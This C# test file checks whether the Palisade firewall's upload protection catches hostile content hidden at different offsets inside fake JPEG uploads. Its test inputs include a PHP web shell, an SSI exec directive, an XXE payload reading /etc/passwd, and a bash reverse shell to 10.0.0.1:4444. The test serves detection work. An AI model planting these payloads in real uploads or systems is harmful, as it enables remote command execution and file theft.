using System.Net;
using System.Text;
using Palisade.Engine.Http;
using Palisade.Engine.Programs;
using Palisade.Engine.Rules;
using Palisade.Engine.Transactions;

namespace Palisade.Protection.Tests.Signatures;

/// <summary>What the built-in protection finds in files, and where it looks.</summary>
public sealed class UploadContentTests
{
    private const int Length = 300 * 1024;

    private static readonly Lazy<RuleSet> Rules = new(() => ProtectionBuilder.Build(new RuleSource { Mode = EngineMode.On, Preamble = "SecRequestBodyLimit 1048576\n" }).Rules!);

    [Theory]
    [InlineData("<?php system($_GET[0]); ?>")]
    [InlineData("<?=`$_GET[0]`?>")]
    [InlineData("<%@ page import=\"java.io.*\" %>")]
    [InlineData("<!--#exec cmd=\"id\"-->")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    public void A_program_is_found_at_the_beginning_and_at_the_end_of_a_long_picture(string program)
    {
        Assert.True(IsStopped(Picture(1, 40, program)));
        Assert.True(IsStopped(Picture(2, (64 * 1024) - program.Length, program)));
        Assert.True(IsStopped(Picture(3, Length - (16 * 1024), program)));
        Assert.True(IsStopped(Picture(4, Length - program.Length, program)));
        Assert.True(IsStopped(Encoding.ASCII.GetBytes(program)));
    }

    [Theory]
    [InlineData("<?php system($_GET[0]); ?>")]
    [InlineData("<?=`$_GET[0]`?>")]
    [InlineData("<%@ page import=\"java.io.*\" %>")]
    [InlineData("<!--#exec cmd=\"id\"-->")]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    public void What_begins_in_the_middle_of_a_long_picture_is_read_from_there(string program)
    {
        Assert.True(IsStopped(Picture(5, 100 * 1024, program)));
        Assert.True(IsStopped(Picture(6, (64 * 1024) - 4, program)));
        Assert.True(IsStopped(Picture(7, Length - (16 * 1024) - 4, program + new string(' ', 64))));
    }

    // The same openings over and over, so that what comes behind them were not read any more if their number ended it.
    [Fact]
    public void Openings_that_are_none_hide_nothing()
    {
        var picture = Picture(8, 200 * 1024, "<?php system($_GET[0]); ?>");
        for (var i = 0; i < 60; i++) "<?p"u8.CopyTo(picture.AsSpan((66 * 1024) + (i * 512)));
        Assert.True(IsStopped(picture));
    }

    // A script of a shell begins where the file does.
    [Fact]
    public void What_opens_nothing_is_passed_over_in_the_middle_of_a_long_file() => Assert.False(IsStopped(Picture(5, 100 * 1024, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")));

    [Fact]
    public void A_picture_is_no_program()
    {
        for (var seed = 10; seed < 20; seed++) Assert.False(IsStopped(Picture(seed, 0, "")), $"seed {seed}");
    }

    private static byte[] Picture(int seed, int at, string program)
    {
        var picture = new byte[Length];
        new Random(seed).NextBytes(picture);
        new byte[] { 0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10 }.CopyTo(picture, 0);
        Encoding.ASCII.GetBytes(program).CopyTo(picture, at);
        return picture;
    }

    private static bool IsStopped(byte[] content)
    {
        byte[] body = [.. "--b0undary\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"u8, .. content, .. "\r\n--b0undary--\r\n"u8];
        HeaderLine[] headers =
        [
            new("Host"u8.ToArray(), "shop.example.com"u8.ToArray()), new("User-Agent"u8.ToArray(), "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0"u8.ToArray()),
            new("Content-Type"u8.ToArray(), "multipart/form-data; boundary=b0undary"u8.ToArray()), new("Content-Length"u8.ToArray(), Encoding.ASCII.GetBytes($"{body.Length}")),
        ];
        var head = new RequestHead(
            "upload", DateTimeOffset.UnixEpoch, new(IPAddress.Loopback, 1, IPAddress.Loopback, 80), "POST"u8.ToArray(), "/pictures"u8.ToArray(), "HTTP/1.1"u8.ToArray(), "POST /pictures HTTP/1.1"u8.ToArray(), headers);
        using var transaction = new Transaction(Rules.Value, new(TimeProvider.System), head);
        transaction.RequestHeaders();
        transaction.RequestBody(body, truncated: false);
        return transaction.Interruption is not null;
    }
}
